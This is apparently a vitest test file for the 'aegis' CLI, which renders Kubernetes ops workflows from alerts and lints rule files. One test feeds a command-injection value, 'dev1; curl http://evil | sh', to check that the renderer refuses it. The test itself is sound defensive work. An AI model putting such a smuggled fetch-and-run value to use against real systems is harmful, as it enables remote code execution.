import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../src/main.js';

const template = 'examples/cordon-on-emergency/template.yaml';
const rule = 'examples/cordon-on-emergency/rule.yaml';
const alert = 'examples/alerts/custom-node-firing.json';
let dir: string;

async function run(...argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, {
    stdout: (text) => void out.push(text),
    stderr: (text) => void err.push(text),
  });
  return { code, stdout: out.join(''), stderr: err.join('') };
}

async function file(name: string, text: string): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, text);
  return path;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'aegis-cli-template-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('aegis template render', () => {
  it('renders the canonical example to a Workflow running `kubectl cordon dev1`', async () => {
    const result = await run('template', 'render', '--template', template, '--alert', alert);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('kind: Workflow');
    expect(result.stdout).toContain('kubectl cordon dev1');
    expect(result.stdout).toContain('# Scripts that would run (1):');
  });

  it('renders a raw Workflow manifest for an AegisAlert YAML, with AlertName and AlertNamespace', async () => {
    const manifest = await file(
      'workflow.yaml',
      [
        'apiVersion: argoproj.io/v1alpha1',
        'kind: Workflow',
        'spec:',
        '  entrypoint: start',
        '  templates:',
        '  - name: start',
        '    container:',
        '      image: busybox',
        '      command: [echo, "{{.AlertName}}", "{{.AlertNamespace}}", "{{.InvolvedObjectName}}"]',
      ].join('\n'),
    );
    const alertFile = await file(
      'alert.yaml',
      [
        'apiVersion: aegis.io/v1alpha1',
        'kind: AegisAlert',
        'metadata: {name: default-nodedown-abcde, namespace: ops}',
        'spec:',
        '  type: NodeDown',
        '  status: Firing',
        '  involvedObject: {kind: Node, name: gpu-7}',
      ].join('\n'),
    );
    const result = await run('template', 'render', '--template', manifest, '--alert', alertFile);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('#   echo default-nodedown-abcde ops gpu-7');
  });

  it('refuses a hostile node value: exit 1 with the variable, the value and the reason', async () => {
    const hostile = await file(
      'hostile.json',
      JSON.stringify({
        type: 'NodeHasEmergencyEvent',
        status: 'Firing',
        involvedObject: { kind: 'Node', name: 'dev1' },
        details: { node: 'dev1; curl http://evil | sh' },
        fingerprint: 'hostile',
      }),
    );
    const result = await run('template', 'render', '--template', template, '--alert', hostile);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('TemplateUnsafe');
    expect(result.stdout).toContain('variable: node');
    expect(result.stdout).toContain('value:    "dev1; curl http://evil | sh"');
    expect(result.stdout).toContain('contains ";"');
    expect(result.stdout).not.toContain('kind: Workflow');
    expect(result.stderr).toContain('TemplateUnsafe');
  });

  it('says what is missing when the template uses a variable the alert does not have', async () => {
    const bare = await file(
      'bare.json',
      JSON.stringify({
        type: 'NodeHasEmergencyEvent',
        status: 'Firing',
        involvedObject: { kind: 'Node', name: 'dev1' },
        fingerprint: 'f',
      }),
    );
    const result = await run('template', 'render', '--template', template, '--alert', bare);
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/^TemplateInvalid: .*node/);
  });
});

describe('aegis rule lint', () => {
  it('passes the canonical rule and template', async () => {
    const result = await run('rule', 'lint', rule, template);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('1 rule and 1 template checked: no problems\n');
  });

  it('lists every problem with file, document and field, and exits 1', async () => {
    const bad = await file(
      'bad.yaml',
      [
        'apiVersion: aegis.io/v1alpha1',
        'kind: AegisAlertOpsRule',
        'metadata: {name: ok}',
        'spec:',
        '  alertConditions: [{type: NodeDown, status: Firing}]',
        '  opsTemplate: {kind: AegisOpsTemplate, name: t}',
        '---',
        'apiVersion: aegis.io/v1alpha1',
        'kind: AegisAlertOpsRule',
        'metadata: {name: broken}',
        'spec:',
        '  selector: {matchExpressions: [{key: pool, operator: In}]}',
        '  alertConditions: [{type: "Node(", status: Firing}, {type: X, status: Resolve}]',
        '  opsTemplate: {kind: AegisOpsTemplate}',
        '---',
        'apiVersion: aegis.io/v1alpha1',
        'kind: AegisOpsTemplate',
        'metadata: {name: t}',
        'spec:',
        '  manifest: |',
        '    apiVersion: argoproj.io/v1alpha1',
        '    kind: Workflow',
        '    spec: {entrypoint: start, templates: [{name: start, container: {command: ["{{.x"]}}]}',
      ].join('\n'),
    );
    const result = await run('rule', 'lint', bad);
    expect(result.code).toBe(1);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines).toEqual(
      expect.arrayContaining([
        `${bad}: document 2 (broken): spec.alertConditions[0].type: is not a valid regular expression (RE2 syntax): missing closing ): \`Node(\``,
        `${bad}: document 2 (broken): spec.alertConditions[1].status: must be exactly "Firing" or "Resolved", not "Resolve"`,
        `${bad}: document 2 (broken): spec.opsTemplate.name: is required`,
        expect.stringMatching(new RegExp(`^${bad}: document 2 \\(broken\\): spec\\.selector: .*In`)),
        expect.stringMatching(
          new RegExp(
            `^${bad}: document 3 \\(t\\): spec\\.manifest: .*\\(line 3 of the manifest, line 23 of ${bad}\\)$`,
          ),
        ),
      ]),
    );
    expect(lines.some((line) => line.includes('document 1'))).toBe(false);
    expect(result.stderr).toMatch(/aegis: \d+ problems in 2 rules and 1 template/);
  });
});

describe('aegis rule lint: what a new user trips over', () => {
  it('fails a file with no rules, reports unknown Aegis kinds, and every missing file', async () => {
    const empty = await file('empty.yaml', 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n');
    const typo = await file(
      'typo.yaml',
      'apiVersion: aegis.io/v1alpha1\nkind: AegisOpsRule\nmetadata: {name: r}\nspec: {}\n',
    );
    const result = await run('rule', 'lint', empty, typo, '/nonexistent/a.yaml', '/nonexistent/b.yaml', rule);
    expect(result.code).toBe(1);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines).toEqual(
      expect.arrayContaining([
        `${empty}: holds no AegisAlertOpsRule or AegisOpsTemplate`,
        `${typo}: document 1 (r): kind: AegisOpsRule is not a kind aegis rule lint knows (expected AegisAlertOpsRule or AegisOpsTemplate)`,
        expect.stringMatching(/^\/nonexistent\/a\.yaml: cannot read: .*ENOENT/),
        expect.stringMatching(/^\/nonexistent\/b\.yaml: cannot read: .*ENOENT/),
      ]),
    );
  });

  it('ends a YAML error with its line, not a dangling colon', async () => {
    const broken = await file('broken.yaml', 'apiVersion: aegis.io/v1alpha1\nkind: [AegisAlertOpsRule\n');
    const result = await run('rule', 'lint', broken);
    expect(result.code).toBe(1);
    const [line] = result.stdout.trimEnd().split('\n');
    expect(line).toMatch(
      new RegExp(`^${broken}: document 1: not valid YAML: .* \\(line \\d+ of ${broken}\\)$`),
    );
    expect(line).not.toMatch(/:\s*\(line|:$/);
  });

  it('says so when template render is given a rule file', async () => {
    const result = await run('template', 'render', '--template', rule, '--alert', alert);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('holds an AegisAlertOpsRule, not a template');
    expect(result.stderr).toContain('(nodehasemergencyevent)');
  });
});
